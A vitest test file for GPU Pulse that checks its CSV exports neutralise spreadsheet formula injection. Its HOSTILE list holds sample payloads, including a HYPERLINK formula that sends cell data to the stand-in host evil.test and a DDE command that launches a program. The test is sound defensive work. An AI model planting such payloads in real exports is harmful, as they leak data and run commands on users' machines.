// CSV formula injection: a label value that starts with = + - @ (or tab, CR) must reach a
// spreadsheet as text, never as a formula, in every CSV GPU Pulse writes (OWASP's advice:
// prefix the cell with a single quote). Numbers stay numbers, negative ones included.
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { run } from '../../src/main/cli/commands/snapshot';
import { historyToCsv } from '../../src/shared/history-csv';
import { parseCsvRecords, parseHistoryCsv } from '../export/support/history-csv-reader';

const HOSTILE = ['=HYPERLINK("http://evil.test/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\tTAB', '\rCR'];

function isFormula(cell: string): boolean {
  return /^[=+\-@\t\r]/.test(cell) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(cell);
}

describe('CSV cells', () => {
  it('the history (plot) CSV neutralises text cells and its reader gives the text back', () => {
    const series: Record<string, { t: number[]; values: Record<string, (number | null)[]> }> = {};
    const identities = new Map<string, { node: string; uuid: string; gpuIndex: number | null; migInstanceId: string | null }>();
    HOSTILE.forEach((text, i) => {
      const key = `${text}/GPU-${i}`;
      series[key] = { t: [1_700_000_000_000], values: { powerWatts: [-12.5], gpuTempC: [40] } };
      identities.set(key, { node: text, uuid: `GPU-${i}`, gpuIndex: i, migInstanceId: i === 0 ? '=1+1' : null });
    });
    const csv = historyToCsv({ series, fields: ['powerWatts', 'gpuTempC'], identity: (k) => identities.get(k) });
    const records = parseCsvRecords(csv);
    for (const record of records.slice(1)) for (const cell of record) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
    // The negative reading is still a number a spreadsheet can sum.
    expect(records[1]![7]).toBe('-12.5');
    const back = parseHistoryCsv(csv);
    expect(back.keys).toEqual(Object.keys(series));
    expect(back.identities[Object.keys(series)[0]!]).toEqual(identities.get(Object.keys(series)[0]!));
    expect(Object.values(back.identities).map((id) => id.node)).toEqual(HOSTILE);
    expect(back.series[Object.keys(series)[0]!]!.values.powerWatts).toEqual([-12.5]);
  });

  it('gpu-pulse snapshot --format csv neutralises hostile label values', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gpu-pulse-csv-'));
    const file = join(dir, 'hostile.prom');
    const lines = HOSTILE.slice(0, 4).map(
      (text, i) => `DCGM_FI_PROF_SM_ACTIVE{gpu="${i}",UUID="GPU-${i}",modelName=${JSON.stringify(text)},Hostname=${JSON.stringify(text)},pod=${JSON.stringify(text)},namespace="ns",container="c"} 0.5`,
    );
    writeFileSync(file, `# TYPE DCGM_FI_PROF_SM_ACTIVE gauge\n${lines.join('\n')}\n`);
    let stdout = '';
    let stderr = '';
    const code = await run([file, '--format', 'csv'], { stdout: (s) => (stdout += s), stderr: (s) => (stderr += s), readStdin: async () => Buffer.alloc(0), cwd: dir });
    expect(stderr).toBe('');
    expect(code).toBe(0);
    const records = parseCsvRecords(stdout);
    expect(records.length).toBe(5);
    for (const record of records.slice(1)) for (const cell of record) expect(isFormula(cell), JSON.stringify(cell)).toBe(false);
    expect(stdout).toContain(`'=HYPERLINK`);
    expect(stdout).toContain(`'@SUM(1,2)`);
  });
});
